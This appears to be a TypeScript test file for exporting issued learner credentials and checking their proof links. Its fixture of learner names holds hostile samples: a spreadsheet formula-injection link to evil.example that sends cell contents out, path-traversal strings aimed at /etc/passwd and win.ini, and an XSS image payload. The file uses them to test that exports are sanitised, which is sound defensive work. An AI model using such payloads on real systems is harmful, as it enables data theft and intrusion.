// The files that holders get: names from our own ids, private on a shared machine, harmless in a spreadsheet.
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { parse } from "csv-parse/sync";
import { unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseJsonObject } from "../../../src/core/json/strictJson.ts";
import type { RosterRow } from "../../../src/core/credential/rosterRow.ts";
import type { IssuerContext } from "../../../src/issuer/context/issuerContext.ts";
import { exportBatch, proofLink } from "../../../src/issuer/deliver/exportBatch.ts";
import { makeFolder, toFolder, toNdjson, toZip } from "../../../src/issuer/deliver/exportTargets.ts";
import { issueRoster } from "../../../src/issuer/issue.ts";
import type { Batch } from "../../../src/state/batch.ts";
import { fileBehindLink } from "../../../src/state/holderFiles.ts";
import { filesOf } from "../../support/fixtures/issuing.ts";
import { TestLedger, type TestIssuer } from "../../support/chain/testLedger.ts";
import { achievement, learners } from "../../support/fixtures/learners.ts";
import { temporaryFolder } from "../../support/temporary.ts";

const NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1)',
  "+4711",
  "-2+3",
  "@SUM(A1)",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "CON",
  "a/b",
  'Comma, "Quote"',
  "<img src=x onerror=alert(1)>",
  "Ñandú Kowalska",
  "n".repeat(200),
];
const ORIGIN = "https://verify.example.edu";
const folder = temporaryFolder();
let ledger: TestLedger;
let issuer: TestIssuer;
let context: IssuerContext;
let batch: Batch;
let rows: RosterRow[];
let folders = 0;
const newFolder = (): string => join(folder, `out-${++folders}`);

beforeAll(async () => {
  ledger = await TestLedger.start(folder);
  issuer = await ledger.issuer();
  context = await ledger.context(issuer);
  rows = learners(NAMES.length).map((row, i) => ({ ...row, name: NAMES[i] ?? "" }));
  batch = await issueRoster(context, { rows, achievement }, issuer);
});
afterAll(() => ledger.stop());

interface Line {
  readonly row: string;
  readonly name: string;
  readonly credential: string;
  readonly link: string;
  readonly file: string;
}

interface Row {
  readonly id: string;
  readonly link: string;
  readonly credential: object;
}

function linksIn(directory: string): Line[] {
  return parse(readFileSync(join(directory, "links.csv")), { columns: true });
}

describe("an export", () => {
  it("is both views of each credential under its own id, the issuer's profile and a list of links, and nothing else", async () => {
    const directory = newFolder();
    expect(await exportBatch(context, batch.id, toFolder(directory), ORIGIN)).toEqual({
      path: directory,
      credentials: NAMES.length,
    });
    const files = await filesOf(context, batch);
    const expected = files.map(({ id }) => `${(id as string).slice("urn:uuid:".length)}.json`);
    const views = expected.flatMap((name) => [
      name,
      name.replace(".json", ".sd-jwt"),
      name.replace(".json", ".anchor"),
    ]);
    expect(readdirSync(directory).sort()).toEqual([...views, "issuer-profile.json", "links.csv"].sort());
    for (const [i, name] of expected.entries()) {
      expect(name).toMatch(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}\.json$/);
      expect(parseJsonObject(readFileSync(join(directory, name)))).toEqual(files[i]);
    }
    expect(parseJsonObject(readFileSync(join(directory, "issuer-profile.json")))).toEqual(issuer.profile);
    expect(existsSync(join(folder, "etc"))).toBe(false);
  });

  it("lists links in the order of the roster, each leading to its learner's file", async () => {
    const directory = newFolder();
    await exportBatch(context, batch.id, toFolder(directory), ORIGIN);
    const lines = linksIn(directory);
    expect(lines.map(({ row }) => Number(row))).toEqual(rows.map(({ row }) => row));
    for (const [i, { name, credential, link, file }] of lines.entries()) {
      expect(name.replace(/^'/, "")).toBe(NAMES[i]);
      const id = link.slice(`${ORIGIN}/p/`.length);
      expect(link).toBe(proofLink(ORIGIN, id));
      expect(id).toMatch(/^[A-Za-z0-9_-]{22}$/);
      const behind = await fileBehindLink(context.store, id);
      expect(behind?.id).toBe(credential);
      expect(JSON.stringify(behind)).toContain(`"identityHash":${JSON.stringify(NAMES[i])}`);
      expect(parseJsonObject(readFileSync(join(directory, file)))).toEqual(behind);
    }
  });

  it("writes no cell that a spreadsheet would take for a formula, and the name in the credential as it is", async () => {
    const directory = newFolder();
    await exportBatch(context, batch.id, toFolder(directory), ORIGIN);
    for (const line of linksIn(directory))
      for (const cell of Object.values(line)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const names = linksIn(directory).map(({ file }) => readFileSync(join(directory, file), "utf8"));
    expect(names[0]).toContain(JSON.stringify(NAMES[0]));
  });

  it("is for its owner only: it holds names and grades", async () => {
    const before = process.umask(0);
    const directory = newFolder();
    await exportBatch(context, batch.id, toFolder(directory), ORIGIN);
    process.umask(before);
    expect(statSync(directory).mode & 0o777).toBe(0o700);
    for (const { file } of linksIn(directory)) expect(statSync(join(directory, file)).mode & 0o777).toBe(0o600);
    expect(statSync(join(directory, "links.csv")).mode & 0o777).toBe(0o600);
  });

  it("is the same in one ZIP, and the same facts in NDJSON, one credential a line", async () => {
    const [directory, zip, ndjson] = [newFolder(), `${newFolder()}.zip`, `${newFolder()}.ndjson`];
    await exportBatch(context, batch.id, toFolder(directory), ORIGIN);
    await exportBatch(context, batch.id, toZip(zip), ORIGIN);
    await exportBatch(context, batch.id, toNdjson(ndjson), ORIGIN);
    for (const path of [zip, ndjson]) expect(statSync(path).mode & 0o777).toBe(0o600);
    const unzipped = unzipSync(readFileSync(zip));
    expect(Object.keys(unzipped).sort()).toEqual(readdirSync(directory).sort());
    for (const name of readdirSync(directory))
      expect(Buffer.from(unzipped[name] ?? [])).toEqual(readFileSync(join(directory, name)));
    const lines = readFileSync(ndjson, "utf8")
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as Row);
    const links = new Map(linksIn(directory).map((line) => [line.credential, line]));
    expect(lines).toHaveLength(NAMES.length);
    for (const { id, link, credential } of lines) {
      expect(link).toBe(links.get(id)?.link);
      expect(credential).toEqual(parseJsonObject(readFileSync(join(directory, links.get(id)?.file ?? ""))));
    }
  });

  it("into a place that cannot be written to fails plainly", async () => {
    for (const target of [toZip, toNdjson])
      await expect(
        exportBatch(context, batch.id, target(join(folder, "nowhere", "out")), ORIGIN),
      ).rejects.toMatchObject({ code: "ENOENT" });
  });

  it("is the same when it is made again, into the same folder or another", async () => {
    const [first, second] = [newFolder(), newFolder()];
    await exportBatch(context, batch.id, toFolder(first), ORIGIN);
    writeFileSync(join(first, "note.txt"), "the registrar's own");
    await exportBatch(context, batch.id, toFolder(first), ORIGIN);
    await exportBatch(context, batch.id, toFolder(second), ORIGIN);
    for (const name of readdirSync(second))
      expect(readFileSync(join(first, name))).toEqual(readFileSync(join(second, name)));
    expect(readFileSync(join(first, "note.txt"), "utf8")).toBe("the registrar's own");
  });

  it("is refused before the batch is published, and writes nothing", async () => {
    const other = await ledger.context(issuer);
    const stops = issueRoster(other, { rows, achievement }, issuer, {
      onState: (state) => {
        if (state === "included") throw new Error("stop");
      },
    });
    await expect(stops).rejects.toThrow("stop");
    const directory = newFolder();
    await expect(exportBatch(other, 1, toFolder(directory), ORIGIN)).rejects.toMatchObject({
      code: "not_published",
      data: { batch: 1, state: "included" },
    });
    expect(existsSync(directory)).toBe(false);
    await expect(exportBatch(other, 2, toFolder(directory), ORIGIN)).rejects.toMatchObject({
      code: "unknown_batch",
    });
  });

  it("cannot go where a file stands, or nobody may write", () => {
    const path = newFolder();
    writeFileSync(path, "a file");
    expect(() => makeFolder(path)).toThrow(/EEXIST/);
    if (process.getuid?.() === 0) return; // root may write anywhere
    const closed = newFolder();
    mkdirSync(closed);
    chmodSync(closed, 0o500);
    expect(() => makeFolder(closed)).toThrow(/EACCES/);
  });
});

describe("a proof link", () => {
  it("that is unknown or malformed leads nowhere", async () => {
    for (const id of ["A".repeat(22), "", "../1", "%"]) expect(await fileBehindLink(context.store, id)).toBeNull();
  });

  it("of a batch that is not published any more leads nowhere", async () => {
    const other = await ledger.context(issuer);
    const published = await issueRoster(other, { rows: learners(1), achievement }, issuer);
    const [link] = await other.store.links.list(published.id);
    expect(await fileBehindLink(other.store, link?.id ?? "")).not.toBeNull();
    await other.store.transactions.move(published.transactionId ?? 0, "finalized", "included", {
      at: "2026-06-30T10:00:01Z",
    });
    expect(await fileBehindLink(other.store, link?.id ?? "")).toBeNull();
  });

  it("says so where the tree of its batch is damaged, instead of giving a file that cannot verify", async () => {
    const other = await ledger.context(issuer);
    const published = await issueRoster(other, { rows: learners(3), achievement }, issuer);
    const [link] = await other.store.links.list(published.id);
    const database = new DatabaseSync(ledger.databasePath());
    database.exec("update tiles set nodes = substr(nodes, 1, 31)");
    database.close();
    await expect(fileBehindLink(other.store, link?.id ?? "")).rejects.toMatchObject({ code: "damaged_row" });
  });
});
